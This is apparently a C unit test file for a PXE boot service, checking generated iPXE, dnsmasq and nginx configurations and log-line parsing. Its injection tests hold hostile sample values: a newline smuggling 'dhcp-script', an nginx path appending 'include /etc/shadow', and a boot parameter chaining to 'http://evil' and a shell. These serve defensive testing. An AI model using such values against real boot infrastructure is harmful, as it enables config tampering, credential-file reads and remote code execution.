/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What is written for iPXE, dnsmasq and nginx, against golden files, and values that must not get
 * into them. A change of the texts shows as a diff: GOLDEN_UPDATE=1 writes the files anew.
 */
#include "tests/harness/check.h"

#include <base/file.h>
#include <base/str.h>
#include <pxe/boot_files.h>
#include <pxe/dnsmasq.h>
#include <pxe/nginx.h>
#include <pxe/script.h>

#define GOLDEN "tests/unit/pxe/golden/"

static void check_golden(const char *name, const struct str *got)
{
	struct err err = ERR_INIT;
	autofree char *path = xasprintf(GOLDEN "%s", name);
	autofree char *want = NULL;
	size_t n = 0;

	assert_true(str_ok(got));
	if (getenv("GOLDEN_UPDATE")) {
		assert_int_equal(file_write_atomic(path, got->p, got->n_bytes, 0644, &err), 0);
		return;
	}
	if (file_read(path, 65536, &want, &n, &err) < 0)
		fail_msg("%s", err.msg);
	if (!str_eq(got->p, want))
		fail_msg("%s differs; it would be:\n%s", path, got->p);
}

static struct dnsmasq_options dnsmasq_sample(enum dhcp_mode mode)
{
	return (struct dnsmasq_options){
		.first = {.mode = mode,
			  .interface = "eth0",
			  .address = "10.0.0.1",
			  .range_start = "10.0.0.100",
			  .range_end = "10.0.0.200",
			  .netmask = "255.255.255.0",
			  .network = "10.0.0.0",
			  .router = "10.0.0.254",
			  .dns = "",
			  .plain_url = "http://10.0.0.1"},
		.lease_s = 3600,
		.lease_file = "/run/s/leases",
		.pid_file = "/run/s/dnsmasq.pid",
		.tftp_root = "/boot/ipxe",
		.user = "dnsmasq",
	};
}

static void test_dnsmasq(void **state)
{
	static const struct {
		const char *name;
		enum dhcp_mode mode;
		const char *relayed;
	} rows[] = {{"dnsmasq-full.conf", DHCP_FULL, NULL},
		    {"dnsmasq-relayed.conf", DHCP_FULL,
		     "10.2.0.10-10.2.0.250/24@10.2.0.1 10.3.0.1-10.3.15.254/20"},
		    {"dnsmasq-proxy.conf", DHCP_PROXY, NULL}};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct err err = ERR_INIT;
		autostr struct str out;
		struct dnsmasq_options o = dnsmasq_sample(rows[i].mode);

		o.relayed = rows[i].relayed;
		str_init(&out, DNSMASQ_CONFIG_MAX_BYTES);
		CHECK_ERR(rows[i].name, dnsmasq_config_write(&out, &o, &err), ERR_OK);
		check_golden(rows[i].name, &out);
	}
}

static void test_dnsmasq_injection(void **state)
{
	static const char *const bad[] = {"", "eth0\ndhcp-script=/x", "a,b", "a b", "\"", "#"};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(bad); i++) {
		struct err err = ERR_INIT;
		autostr struct str out;
		struct dnsmasq_options o = dnsmasq_sample(DHCP_FULL);
		o.first.interface = bad[i];
		str_init(&out, DNSMASQ_CONFIG_MAX_BYTES);
		CHECK_ERR(bad[i], dnsmasq_config_write(&out, &o, &err), ERR_CONFIG);
	}
}

static struct nginx_options nginx_sample(void)
{
	return (struct nginx_options){
		.address = "10.0.0.1",
		.http_port = 80,
		.https_port = 443,
		.run_dir = "/run/s",
		.temp_dir = "/state/nginx",
		.files_dir = "/boot",
		.site_cpio = "/state/boot/site.cpio",
		.bootstrap = "/run/s/b.ipxe",
		.objects_dir = "/state/objects",
		.tls_cert = "/state/keys/tls.crt",
		.tls_key = "/state/keys/tls.key",
		.backend_socket = "/run/s/http.sock",
		.user = "www-data",
	};
}

static void test_nginx(void **state)
{
	struct err err = ERR_INIT;
	autostr struct str out;
	struct nginx_options o = nginx_sample();

	(void)state;
	str_init(&out, NGINX_CONFIG_MAX_BYTES);
	assert_int_equal(nginx_config_write(&out, &o, &err), 0);
	check_golden("nginx.conf", &out);
	/* every proxied location sets the two headers that the daemon believes */
	size_t proxied = 0, listener = 0, cert = 0;
	for (const char *p = out.p; (p = strstr(p, "proxy_pass ")); p++)
		proxied++;
	for (const char *p = out.p; (p = strstr(p, "proxy_set_header X-Slipway-Listener ")); p++)
		listener++;
	for (const char *p = out.p; (p = strstr(p, "proxy_set_header X-Slipway-Client-Cert ")); p++)
		cert++;
	assert_true(proxied > 0 && proxied == listener && proxied == cert);
	o.files_dir = "/boot; include /etc/shadow";
	assert_int_equal(nginx_config_write(&out, &o, &err), -ERR_CONFIG);
}

static void test_scripts(void **state)
{
	static const struct {
		const char *name, *arch;
		enum boot_action action;
		bool firmware;
		const char *esp_uuid, *console;
		unsigned bios_drive;
	} rows[] = {
		{"agent-x86_64.ipxe", "x86_64", BOOT_AGENT, false, NULL, NULL, 0},
		{"agent-x86_64.ipxe", "x86_64", BOOT_AGENT, false, NULL, "", 0},
		{"agent-console.ipxe", "x86_64", BOOT_AGENT, false, NULL, "ttyS1,115200n8", 0},
		{"agent-aarch64.ipxe", "arm64", BOOT_AGENT, true, NULL, NULL, 0},
		{"local.ipxe", "x86_64", BOOT_LOCAL, false, NULL, NULL, 0},
		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "", NULL, 0},
		{"local-second-drive.ipxe", "x86_64", BOOT_LOCAL, false, NULL, NULL, 0x81},
		{"local.ipxe", "x86_64", BOOT_LOCAL, false, NULL, NULL, 0x7f},
		{"local.ipxe", "x86_64", BOOT_LOCAL, false, NULL, NULL, 0x180},
		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-51a7b105010",
		 NULL, 0},
		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-51a7b1050101x",
		 NULL, 0},
		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a1043c1e-4b57-9a41-51a7b1050101",
		 NULL, 0},
		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-51a7b10501\nx",
		 NULL, 0},
		{"local.ipxe", "x86_64", BOOT_LOCAL, false, "5d0f7a10-3c1e-4b57-9a41-${serial}xx",
		 NULL, 0},
		{"local-esp.ipxe", "x86_64", BOOT_LOCAL, false,
		 "5d0f7a10-3c1e-4b57-9a41-51A7b1050101", NULL, 0},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		autostr struct str out;
		struct boot_query q = {.mac = "52:54:00:00:00:01"};
		struct boot_answer a = {rows[i].action, "because"};
		struct boot_script_options o = {"http://10.0.0.1",
						"https://10.0.0.1",
						"sha256//PIN=",
						"boot-1",
						rows[i].firmware ? "debug" : NULL,
						rows[i].console,
						rows[i].firmware,
						rows[i].esp_uuid,
						rows[i].bios_drive};
		boot_query_set(&q, "arch", rows[i].arch);
		str_init(&out, SCRIPT_MAX_BYTES);
		boot_script_write(&out, &q, &a, &o);
		check_golden(rows[i].name, &out);
	}
	autostr struct str out;
	str_init(&out, SCRIPT_MAX_BYTES);
	boot_bootstrap_write(&out, "http://10.0.0.1");
	check_golden("bootstrap.ipxe", &out);
}

/* A host's words never get into a script, whatever they are. */
static void test_script_injection(void **state)
{
	static const char *const parameters[] = {"mac",          "uuid",    "serial",
						 "manufacturer", "product", "platform"};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(parameters); i++) {
		autostr struct str out;
		struct boot_query q = {.cpu_64bit = true};
		struct boot_answer a = {BOOT_AGENT, "because"};
		struct boot_script_options o = {"http://h", "https://h", "p",  "b", NULL,
						NULL,       false,       NULL, 0};
		boot_query_set(&q, "arch", "x86_64");
		boot_query_set(&q, parameters[i], "EVIL\nchain http://evil/${x} || shell");
		str_init(&out, SCRIPT_MAX_BYTES);
		boot_script_write(&out, &q, &a, &o);
		CHECK(parameters[i], !strstr(out.p, "EVIL") && !strstr(out.p, "evil"));
	}
}

static void test_log_lines(void **state)
{
	static const struct {
		const char *line, *what, *mac, *address;
	} rows[] = {
		{"dnsmasq-dhcp[12]: 2713 DHCPDISCOVER(br0) 52:54:00:AA:00:01", "DHCPDISCOVER",
		 "52:54:00:aa:00:01", ""},
		{"dnsmasq-dhcp: 2713 DHCPACK(br0) 10.0.0.5 52:54:00:00:00:01 name", "DHCPACK",
		 "52:54:00:00:00:01", "10.0.0.5"},
		{"dnsmasq-dhcp: 1 DHCPACK(br0) 10.0.0.5 52:54:00:00:00:01 DHCPNAK(x) "
		 "52:54:00:00:00:02",
		 "DHCPACK", "52:54:00:00:00:01", "10.0.0.5"},
		{"dnsmasq-dhcp: 7 PXE(br0) 52:54:00:00:00:01 proxy", "PXE", "52:54:00:00:00:01",
		 ""},
		{"dnsmasq-dhcp: 2713 vendor class: PXEClient:Arch:00007", NULL, "", ""},
		{"dnsmasq-tftp: sent /boot/x to 10.0.0.5", NULL, "", ""},
		/* a client's own words stand behind dnsmasq's and are not a message */
		{"dnsmasq-dhcp: 2713 vendor class: DHCPACK(br0) 10.0.0.9 52:54:00:00:00:09", NULL,
		 "", ""},
		{"dnsmasq-dhcp: 2713 client provides name: 5 DHCPACK(br0) 10.0.0.9 "
		 "52:54:00:00:00:09",
		 NULL, "", ""},
		{"dnsmasq-dhcp: DHCPACK(br0) 10.0.0.5 52:54:00:00:00:01", "DHCPACK",
		 "52:54:00:00:00:01", "10.0.0.5"},
		{"dnsmasq-tftp: file /srv/dnsmasq-dhcp: 5 DHCPACK(br0) 10.0.0.9 52:54:00:00:00:09 "
		 "not found",
		 NULL, "", ""},
		{"dnsmasq-tftp: 5 DHCPACK(br0) 10.0.0.9 52:54:00:00:00:09", NULL, "", ""},
		{"DHCPDISCOVER", NULL, "", ""},
		{"", NULL, "", ""},
		{"DHCPDISCOVER(x) 52:54:00:00:00", NULL, "", ""},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct dnsmasq_line l;
		bool found = dnsmasq_line_parse(rows[i].line, &l);
		CHECK_INT(rows[i].line, found, rows[i].what != NULL);
		if (!found)
			continue;
		CHECK_STR(rows[i].line, l.what, rows[i].what);
		CHECK_STR(rows[i].line, l.mac, rows[i].mac);
		CHECK_STR(rows[i].line, l.address, rows[i].address);
	}
}

/* N-08: What clients say about themselves, in lines before their message's. */
static void test_client_lines(void **state)
{
	static const struct {
		const char *line;
		bool found, is_ipxe;
		unsigned arch;
	} rows[] = {
		{"dnsmasq-dhcp: 2713 vendor class: PXEClient:Arch:00039:UNDI:003016", true, false,
		 39},
		{"dnsmasq-dhcp[12]: 2713 vendor class: HTTPClient:Arch:00015:UNDI:003000", true,
		 false, 15},
		{"dnsmasq-dhcp: 2713 vendor class: PXEClient:Arch:00000", true, false, 0},
		{"dnsmasq-dhcp: 2713 user class: iPXE", true, true, 0},
		{"dnsmasq-dhcp: 2713 user class: other", false, false, 0},
		{"dnsmasq-dhcp: 2713 vendor class: PXEClient", false, false, 0},
		{"dnsmasq-dhcp: 2713 vendor class: PXEClient:Arch:65536:UNDI:003016", true, false,
		 65536},
		{"dnsmasq-dhcp: 2713 vendor class: PXEClient:Arch:999999", false, false, 0},
		{"dnsmasq-dhcp: 2713 vendor class: PXEClient:Arch:-1", false, false, 0},
		{"dnsmasq-dhcp: 2713 vendor class: MSFT 5.0", false, false, 0},
		{"dnsmasq-dhcp: 2713 client provides name: 9 vendor class: PXEClient:Arch:00039",
		 false, false, 0},
		{"dnsmasq-tftp: file /srv/ 9 vendor class: PXEClient:Arch:00039: not found", false,
		 false, 0},
		{"dnsmasq-dhcp: vendor class: PXEClient:Arch:00039", false, false, 0},
		{"dnsmasq-dhcp: 271300000000000 vendor class: PXEClient:Arch:00039", false, false,
		 0},
		{"", false, false, 0},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct dnsmasq_client c;
		bool wanted = rows[i].found && rows[i].arch <= 0xffff;
		CHECK_INT(rows[i].line, dnsmasq_client_parse(rows[i].line, &c), wanted);
		if (!wanted)
			continue;
		CHECK_INT(rows[i].line, c.is_ipxe, rows[i].is_ipxe);
		CHECK_INT(rows[i].line, c.client_arch, rows[i].arch);
		CHECK_STR(rows[i].line, c.exchange, "2713");
	}
}

/* Option 93's architectures: those that new servers send have a loader, and of all others of the
 * registry (0 to 41) it is said what to do. */
static void test_loaders(void **state)
{
	static const unsigned needed[] = {0, 7, 9, 11, 16, 19};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(needed); i++)
		assert_non_null(boot_loader_of(needed[i])->file);
	assert_int_equal(n_boot_loaders, 42);
	for (unsigned arch = 0; arch < n_boot_loaders; arch++) {
		const struct boot_loader *l = boot_loader_of(arch);
		if (!l || !l->file == !l->todo || !l->what[0])
			fail_msg("architecture %u", arch);
	}
	for (size_t i = 0; i < n_boot_loaders; i++)
		for (size_t j = 0; j < i; j++)
			if (!boot_loaders[i].file &&
			    str_eq(boot_loaders[i].tag, boot_loaders[j].tag))
				fail_msg("tag %s twice", boot_loaders[i].tag);
	assert_null(boot_loader_of(4711));
	assert_false(boot_files_ready("/nonexistent", BOOT_ARCH_X86_64));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_dnsmasq),
		cmocka_unit_test(test_dnsmasq_injection),
		cmocka_unit_test(test_nginx),
		cmocka_unit_test(test_scripts),
		cmocka_unit_test(test_script_injection),
		cmocka_unit_test(test_log_lines),
		cmocka_unit_test(test_client_lines),
		cmocka_unit_test(test_loaders),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests_name("pxe writers", tests, NULL, NULL);
}
